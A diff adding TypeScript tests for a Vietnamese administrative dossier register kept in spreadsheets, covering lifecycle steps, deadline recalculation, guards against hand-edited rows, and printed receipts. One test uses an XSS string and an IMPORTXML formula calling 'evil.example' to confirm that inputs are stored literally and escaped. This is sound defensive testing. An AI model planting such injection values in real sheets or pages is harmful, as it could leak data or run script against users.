@@ -1,0 +1,123 @@
+import { submitIntake } from '../../src/server/intake';
+import { lookupDossier, submitUpdate } from '../../src/server/update';
+import { formHtml } from '../../src/server/print';
+import { REGISTER_COLUMNS, TABS } from '../../src/sheets/schema';
+import type { LocalSpreadsheet } from '../../src/local/gas/spreadsheet';
+import { intakeInput, readyUnit } from '../helpers';
+
+const col = (h: (typeof REGISTER_COLUMNS)[number]) => REGISTER_COLUMNS.indexOf(h) + 1;
+let n = 0;
+const req = () => `upd-${String((n += 1)).padStart(6, '0')}`;
+
+function withDossier(overrides: Record<string, unknown> = {}) {
+  const unit = readyUnit();
+  const r = unit.run((s) => submitIntake(s, intakeInput(overrides)));
+  if (!r.ok) throw new Error(JSON.stringify(r));
+  return { ...unit, code: r.code };
+}
+
+describe('dossier updates', () => {
+  it('offers only the steps the lifecycle allows, and finds the dossier from the selected row', () => {
+    const { run, code, book, world } = withDossier();
+    const byCode = run((s) => lookupDossier(s, code));
+    expect(byCode.ok && byCode.dossier.actions.map((a) => a.label)).toEqual([
+      'Chuyển xử lý',
+      'Yêu cầu bổ sung hồ sơ',
+      'Xin lỗi và hẹn lại',
+      'Có kết quả giải quyết',
+      'Từ chối giải quyết',
+      'Dừng giải quyết',
+    ]);
+    expect(byCode.ok && byCode.dossier).toMatchObject({ status: 'Đã tiếp nhận', appointment: '17 giờ 00, ngày 11/03/2026', deadline: 'Trong hạn' });
+    world.run({ user: 'canbo@example.gov.vn', spreadsheetId: book.id }, (s) => {
+      (s.spreadsheetApp.getActiveSpreadsheet() as LocalSpreadsheet).select(TABS.register, 'D2');
+      const selected = lookupDossier(s);
+      expect(selected.ok && selected.dossier.code).toBe(code);
+    });
+  });
+
+  it('writes one row update and one event per step, through supplement, apology, result and hand-over', () => {
+    const { run, code, world } = withDossier();
+    const step = (input: Record<string, unknown>) => run((s) => submitUpdate(s, { requestId: req(), code, ...input }));
+    expect(step({ action: 'transfer', at: '2026-03-02T09:00', department: 'Công an xã' })).toMatchObject({ ok: true });
+    const supplement = step({ action: 'request-supplement', at: '2026-03-03T10:00', missing: 'Bản sao giấy khai sinh', reason: 'Thiếu giấy tờ' });
+    expect(supplement).toMatchObject({ ok: true, form: 'supplement', warnings: [] });
+    world.clock.advance(4 * 86400000);
+    const arrived = step({ action: 'receive-supplement', at: '2026-03-05T14:00' });
+    expect(arrived.ok && arrived.dossier.appointment).toBe('17 giờ 00, ngày 16/03/2026'); // 7 working days from Thu 5/3 (tính lại)
+    const apology = step({ action: 'apologise', at: '2026-03-12T09:00', newDueAt: '2026-03-18T17:00', reason: 'Chờ xác minh của công an huyện' });
+    expect(apology).toMatchObject({ ok: true, form: 'apology' });
+    expect(step({ action: 'apologise', at: '2026-03-12T09:30', newDueAt: '2026-03-19T17:00', reason: 'Lần hai' })).toEqual({
+      ok: false,
+      errors: { form: 'Hồ sơ đã được xin lỗi và hẹn lại một lần; chỉ được hẹn lại một lần.' },
+    });
+    expect(step({ action: 'hand-over', at: '2026-03-13T09:00' })).toEqual({
+      ok: false,
+      errors: { form: 'Chưa có kết quả giải quyết nên không thể trả kết quả (trạng thái hiện tại: “Đang giải quyết”).' },
+    });
+    expect(step({ action: 'record-result', at: '2026-03-17T15:00' })).toMatchObject({ ok: true });
+    expect(step({ action: 'hand-over', at: '2026-03-18T08:00', satisfaction: 'Hài lòng' })).toMatchObject({ ok: true });
+    run((_s, ss) => {
+      const row = ss.getSheetByName(TABS.register)!.getRange(2, 1, 1, REGISTER_COLUMNS.length).getDisplayValues()[0]!;
+      expect(row[col('Trạng thái') - 1]).toBe('Đã trả kết quả');
+      expect(row[col('Hạn trả kết quả') - 1]).toBe('16/03/2026 17:00');
+      expect(row[col('Hạn trả mới') - 1]).toBe('18/03/2026 17:00');
+      expect(row[col('Lý do chậm') - 1]).toBe('Chờ xác minh của công an huyện');
+      expect(row[col('Số lần yêu cầu bổ sung') - 1]).toBe('1');
+      expect(row[col('Ngày có kết quả') - 1]).toBe('17/03/2026');
+      expect(row[col('Ngày trả kết quả') - 1]).toBe('18/03/2026');
+      expect(row[col('Mức độ hài lòng') - 1]).toBe('Hài lòng');
+      expect(row[col('Cơ quan giải quyết') - 1]).toBe('Công an xã');
+      const log = ss.getSheetByName(TABS.log)!;
+      expect(log.getRange(2, 4, log.getLastRow() - 1, 1).getValues().map((r) => r[0])).toEqual([
+        'Tiếp nhận hồ sơ',
+        'Chuyển xử lý',
+        'Yêu cầu bổ sung hồ sơ',
+        'Nhận hồ sơ bổ sung',
+        'Xin lỗi và hẹn lại',
+        'Có kết quả giải quyết',
+        'Trả kết quả',
+      ]);
+    });
+  });
+
+  it('reports a row edited by hand into an impossible state and does not overwrite it', () => {
+    const { run, code } = withDossier();
+    run((_s, ss) => ss.getSheetByName(TABS.register)!.getRange(2, col('Trạng thái')).setValue('Đã trả kết quả'));
+    const lookup = run((s) => lookupDossier(s, code));
+    expect(lookup).toEqual({ ok: false, message: `Dòng 2 (mã ${code}): trạng thái “Đã trả kết quả” nhưng chưa có ngày trả kết quả.` });
+    const update = run((s) => submitUpdate(s, { requestId: req(), code, action: 'stop', at: '2026-03-02T09:00', reason: 'Rút' }));
+    expect(update).toEqual({
+      ok: false,
+      errors: { code: `Dòng 2 (mã ${code}): trạng thái “Đã trả kết quả” nhưng chưa có ngày trả kết quả. Hãy sửa dòng này trước.` },
+    });
+    run((_s, ss) => expect(ss.getSheetByName(TABS.register)!.getRange(2, col('Trạng thái')).getValue()).toBe('Đã trả kết quả'));
+  });
+
+  it('keeps the reasons of the update form literal and escapes them on the printed form', () => {
+    const { run, code } = withDossier({ applicantName: '<script>alert("x")</script>' });
+    const reason = '=IMPORTXML("http://evil.example","//a") <b>gấp</b>';
+    run((s) => submitUpdate(s, { requestId: req(), code, action: 'request-supplement', at: '2026-03-02T09:00', missing: '@x, -1, +84', reason }));
+    run((_s, ss) => {
+      const log = ss.getSheetByName(TABS.log)!;
+      const note = log.getRange(3, 7).getValue();
+      expect(note).toBe(`Lần 1. Lý do: ${reason}. Cần bổ sung: @x, -1, +84`);
+      expect(log.getRange(3, 7).getFormulas()[0]![0]).toBe('');
+    });
+    const html = run((s) => formHtml(s, code, 'supplement'));
+    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
+    expect(html).toContain('=IMPORTXML(&quot;http://evil.example&quot;,&quot;//a&quot;) &lt;b&gt;gấp&lt;/b&gt;');
+    expect(html).toContain('@x, -1, +84');
+    expect(html).not.toContain('<script>alert');
+  });
+
+  it('prints the receipt with the appointment, the register number and a QR code of the dossier', () => {
+    const { run, code } = withDossier();
+    const html = run((s) => formHtml(s, code, 'receipt'));
+    expect(html).toContain('GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ');
+    expect(html).toContain('17 giờ 00, ngày 11/03/2026');
+    expect(html).toContain('Số thứ tự trong sổ:</td><td>1</td>');
+    expect(html).toContain('Tờ khai thay đổi thông tin cư trú');
+    expect(html).toMatch(/<svg[^>]*>[\s\S]*<\/svg>/);
+  });
+});
